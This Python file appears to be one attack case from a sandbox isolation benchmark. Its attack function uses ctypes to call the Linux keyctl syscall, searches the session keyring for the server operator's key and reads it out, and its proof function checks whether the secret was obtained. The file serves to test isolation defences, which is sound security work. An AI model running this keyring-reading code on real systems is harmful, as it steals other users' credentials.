"""Read a key of the user who started the server."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

SHARED = True


def attack(given: Given) -> object:
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    keyctl = 250 if os.uname().machine == "x86_64" else 219
    search, read, session_keyring = 10, 11, -3
    key = libc.syscall(keyctl, search, session_keyring, b"user", b"isobench:operator", 0)
    text = ctypes.create_string_buffer(100)
    length = libc.syscall(keyctl, read, key, text, 100) if key > 0 else -1
    if length < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return text.raw[:length]


def proof(scene: Scene) -> str | None:
    return scene.brought_back(scene.secrets["key"], "the operator's key")
